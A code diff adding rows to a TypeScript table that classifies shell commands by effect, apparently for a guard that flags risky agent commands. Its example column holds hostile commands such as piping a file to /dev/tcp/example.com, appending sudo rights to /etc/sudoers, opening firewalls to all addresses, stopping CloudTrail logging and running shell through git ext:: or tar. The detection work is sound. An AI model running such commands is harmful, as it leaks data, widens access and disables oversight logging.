@@ -88,6 +88,9 @@ export const commandRows: readonly EffectRow[] = rowsOf({
     ['gsutil|azcopy cp|rsync|copy|mv', 'gsutil cp dump.sql gs://out/', 'gsutil ls gs://out'],
     ['docker|podman push|pull|login', 'docker push shop/web', 'docker ps'],
     ['npm|yarn|pnpm|cargo|twine|gem|helm publish|upload|push', 'npm publish', 'npm ls'],
+    ['* @socket', 'cat x | tee /dev/tcp/example.com/80', 'cat x | tee /dev/null'],
+    ['* @address', 'npm config set registry https://a.example', 'npm config get registry'],
+    ['git ~.insteadof', 'git config url.git://a/.insteadOf https://b/', 'git config user.name ann'],
     ['iwr|irm|invoke-webrequest|invoke-restmethod|certutil|bitsadmin @elsewhere', 'iwr https://a.b', 'iwr localhost'],
   ],
   // Runs code from elsewhere, or code with rights over the machine.
@@ -142,6 +145,19 @@ export const commandRows: readonly EffectRow[] = rowsOf({
     ['dpkg|rpm -i|-U|--install', 'dpkg -i x.deb', 'dpkg -l'],
     ['pacman -S|-U', 'pacman -S vim', 'pacman -Q'],
     ['make|ninja|cmake install', 'make install', 'make test'],
+    ['code|codium|code-insiders --install-extension', 'code --install-extension a.b', 'code --list-extensions'],
+    ['* plugin|plugins|extension|extensions|krew install|add', 'gh extension install a/b', 'gh extension list'],
+    [
+      'pipenv|pdm|mamba|micromamba|asdf|nvm|luarocks|cpanm|ansible-galaxy install|add',
+      'pipenv install x',
+      'pipenv graph',
+    ],
+    [
+      'jupyter labextension|nbextension|serverextension install|enable',
+      'jupyter labextension install x',
+      'jupyter labextension list',
+    ],
+    ['add-apt-repository|apt-add-repository', 'add-apt-repository ppa:a/b', 'apt-cache policy'],
   ],
   widens_rights: [
     ['chmod @wide', 'chmod 777 run.sh', 'chmod 644 run.sh'],
@@ -160,6 +176,18 @@ export const commandRows: readonly EffectRow[] = rowsOf({
     ['sed -i >@rights', "sed -i 's/a/b/' /etc/sudoers", "sed -n '1p' /etc/passwd"],
     ['tee|cp|mv|install|ln >@rights', "echo 'bob ALL=(ALL) ALL' | tee -a /etc/sudoers", 'cat /etc/sudoers'],
     ['net user|localgroup ~/add', 'net user bob pw /add', 'net user bob'],
+    ['aws ec2 authorize-security-group-ingress', 'aws ec2 authorize-security-group-ingress x', 'aws ec2 describe-x'],
+    [
+      'gsutil|gcloud ~allusers|~allauthenticatedusers',
+      'gsutil iam ch allUsers:objectViewer gs://a',
+      'gsutil iam get gs://a',
+    ],
+    [
+      'iptables|ip6tables ~0.0.0.0/0|~::/0 =accept',
+      'iptables -A INPUT -s 0.0.0.0/0 -j ACCEPT',
+      'iptables -A INPUT -s 0.0.0.0/0 -j DROP',
+    ],
+    ['ufw allow from any', 'ufw allow from any to any port 22', 'ufw allow from 10.0.0.1'],
     ['icacls ~/grant', 'icacls x /grant Everyone:F', 'icacls x'],
   ],
   disables_safeguard: [
@@ -171,7 +199,14 @@ export const commandRows: readonly EffectRow[] = rowsOf({
     ['systemctl|service|launchctl stop|disable|mask|unload|kill @guard', 'systemctl stop ufw', 'systemctl status ufw'],
     ['service ~stop @guard', 'service firewalld stop', 'service firewalld status'],
     ['pkill|killall|taskkill @guard', 'pkill auditd', 'pkill nginx'],
-    ['auditctl -D|-e', 'auditctl -D', 'auditctl -l'],
+    ['auditctl -D', 'auditctl -D', 'auditctl -l'],
+    ['auditctl -e =0', 'auditctl -e 0', 'auditctl -e 1'],
+    [
+      'aws ~stop-logging|~delete-trail|~delete-detector|~delete-flow-logs|~delete-public-access-block',
+      'aws cloudtrail stop-logging --name a',
+      'aws cloudtrail start-logging --name a',
+    ],
+    ['pip|pip3 config ~trusted-host', 'pip config set global.trusted-host a.example', 'pip config list'],
     ['aa-teardown|aa-disable|aa-complain', 'aa-disable nginx', 'aa-status'],
     ['git commit -n', 'git commit -n -m x', 'git commit -m x'],
     ['git push -f|--force|--force-with-lease', 'git push --force origin main', 'git push origin main'],
@@ -221,11 +256,8 @@ export const commandRows: readonly EffectRow[] = rowsOf({
   unreadable: [
     ['tar ~checkpoint-action|~--to-command|~--use-compress-program', 'tar cf a --to-command=sh b', 'tar cf a b'],
     ['sed @sedexec', "sed '1e date' f", "sed 's/a/be/' f"],
-    [
-      'git ~alias.|~core.sshcommand|~core.fsmonitor|~core.pager=|~ext::',
-      "git -c alias.x='!date' x",
-      'git -c a.b=c log',
-    ],
+    ['git @gitruns', "git -c alias.x='!date' x", 'git config --global alias.co checkout'],
+    ['git ~ext::', "git clone 'ext::sh -c date'", 'git clone a'],
     ['ssh|scp|sftp|rsync ~proxycommand=|~localcommand=', "ssh -o ProxyCommand='nc x 22' web1", 'ssh -o User=bob web1'],
   ],
 });
